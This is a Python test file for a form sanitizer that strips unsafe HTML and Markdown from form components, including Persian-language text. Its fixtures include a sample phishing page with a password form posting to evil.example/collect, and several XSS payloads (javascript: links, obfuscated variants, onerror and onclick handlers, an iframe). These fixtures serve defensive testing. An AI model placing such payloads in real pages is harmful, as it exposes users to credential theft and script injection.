"""The designer's markup in a form (``html`` and ``text`` components, ``text:fa``) reaches the task page as
text, simple formatting and safe links only: the review's off-site password form and script links are gone."""

from __future__ import annotations

from typing import Any

from forms.display import clean_markdown, clean_markup, for_display

PHISHING = ('<p>Session expired.</p><form action="https://evil.example/collect"><input name="password" '
            'type="password"><button>Sign in</button></form><a href="javascript:alert(1)">help</a> '
            '<a href="https://docs.example/help">docs</a><img src=x onerror="alert(1)"><iframe src="//evil"></iframe>'
            '<b style="color:red" onclick="steal()">important</b>')


def test_html_keeps_text_formatting_and_safe_links_only():
    cleaned = clean_markup(PHISHING)
    for gone in ("<form", "<input", "<button", "<img", "<iframe", "javascript:", "onerror", "onclick", "style=",
                 "evil.example"):
        assert gone not in cleaned, (gone, cleaned)
    assert "<p>Session expired.</p>" in cleaned and "<b>important</b>" in cleaned
    assert '<a href="https://docs.example/help" rel="noopener noreferrer nofollow">docs</a>' in cleaned


def test_markdown_links_keep_safe_targets_only():
    text = ("## Steps\n> call the customer & note it\n[a](javascript:alert(1)) [b](&#106;avascript:x) "
            "[c](JaVa\\Script:1) [d](data:text/html,x) [ok](https://a.example/x_(y)) [m](mailto:x@y.example) "
            "[rel](/app/customers/1) <javascript:alert(1)> <https://b.example>")
    cleaned = clean_markdown(text)
    assert "javascript" not in cleaned.lower() and "data:" not in cleaned and "avascript" not in cleaned
    assert cleaned.startswith("## Steps\n> call the customer & note it\n")  # Markdown itself untouched
    for kept in ("[ok](https://a.example/x_(y))", "[m](mailto:x@y.example)", "[rel](/app/customers/1)",
                 "[https://b.example](https://b.example)", "[a](#)", "[b](#)", "[c](#)", "[d](#)"):
        assert kept in cleaned, (kept, cleaned)
    assert "<form" not in clean_markdown("see <form action=//evil><input></form> below")


def test_nested_components_and_persian_text_are_cleaned_and_the_rest_is_kept():
    form: dict[str, Any] = {"id": "f", "components": [
        {"type": "group", "components": [{"type": "html", "content": PHISHING}]},
        {"type": "text", "text": "[x](javascript:1)", "properties": {"text:fa": "<form></form>[ی](javascript:1)",
                                                                      "label:fa": "نام"}},
        {"type": "textfield", "key": "name", "label": "<b>Name</b>"},
    ]}
    shown = for_display(form)
    assert "<form" not in shown["components"][0]["components"][0]["content"]
    assert shown["components"][1]["text"] == "[x](#)"
    assert shown["components"][1]["properties"] == {"text:fa": "[ی](#)", "label:fa": "نام"}
    assert shown["components"][2] == form["components"][2]  # labels are shown as text by form-js already
    assert form["components"][0]["components"][0]["content"] == PHISHING  # the stored form is not changed
